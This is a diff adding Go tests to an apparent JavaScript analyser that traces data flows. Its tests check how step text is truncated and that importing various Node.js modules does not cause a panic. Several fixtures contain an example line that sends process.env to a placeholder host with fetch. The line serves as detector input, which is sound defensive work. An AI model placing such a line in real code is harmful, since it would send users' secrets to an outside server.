@@ -5,6 +5,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -136,6 +137,33 @@ func TestLink(t *testing.T) {
 	}
 }
 
+// TestStepText: what is cut of a line is marked, and a cut line begins with a
+// whole name where that is near.
+func TestStepText(t *testing.T) {
+	long := strings.Repeat("x", 500)
+	for name, test := range map[string]struct {
+		code, begin, end string
+	}{
+		"whole":         {"a();\nfetch('https://h.invalid', {body: process.env})\nb()", "fetch(", ".env})"},
+		"before":        {"const first = 1; JSON.stringify(0); fetch('https://h.invalid', {body: process.env})\nb()", "…stringify(0);", "process.env})"},
+		"in a name":     {"var " + long + " = process.env;\nfetch('https://h.invalid', {body: " + long + "})", "…" + strings.Repeat("x", 57) + " = p", "env;"},
+		"after":         {"fetch('https://h.invalid', {body: process.env}); /* " + long + " */", "fetch(", "x…"},
+		"beyond ASCII":  {"/*" + strings.Repeat("é", 300) + "*/ fetch('https://h.invalid', {body: process.env}) /*" + strings.Repeat("é", 300) + "*/", "…é", "é…"},
+		"at the margin": {strings.Repeat("z", 40) + ";\nfetch('https://h.invalid', {body: process.env})", "fetch(", ".env})"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			chains := link("a.js", test.code)
+			if len(chains) == 0 {
+				t.Fatal("no chain")
+			}
+			text := chains[0].Steps[0].Text
+			if !strings.HasPrefix(text, test.begin) || !strings.HasSuffix(text, test.end) || len(text) > MaxText || !utf8.ValidString(text) {
+				t.Errorf("%d bytes %q, want %q … %q", len(text), text, test.begin, test.end)
+			}
+		})
+	}
+}
+
 // hostile are programs that are to end within the bounds.
 func hostile() map[string]string {
 	var aliases strings.Builder
@@ -210,4 +238,15 @@ func FuzzSummarise(f *testing.F) {
 			t.Fatal(diff)
 		}
 	})
+}
+
+// TestCalledModules has modules that are called themselves, which those of
+// Node.js are not.
+func TestCalledModules(t *testing.T) {
+	for _, module := range []string{"os", "fs", "fs/promises", "http", "https", "dns", "net", "tls", "child_process", "crypto", "zlib", "vm", "module", "process",
+		"worker_threads", "axios", "got", "clipboardy", "rimraf", "execa", "ethers", "web3", "npm", "sqlite3", "better-sqlite3"} {
+		for _, text := range []string{"const m = require('%s'); m(); m()(); new m(); m.a; m`x`; m?.()", "import * as m from '%s'; m(); m.default(); m[m]()", "import m from '%s'; m(process.env); m[0](m)"} {
+			link("a.js", fmt.Sprintf(text, module)) // must not panic
+		}
+	}
 }
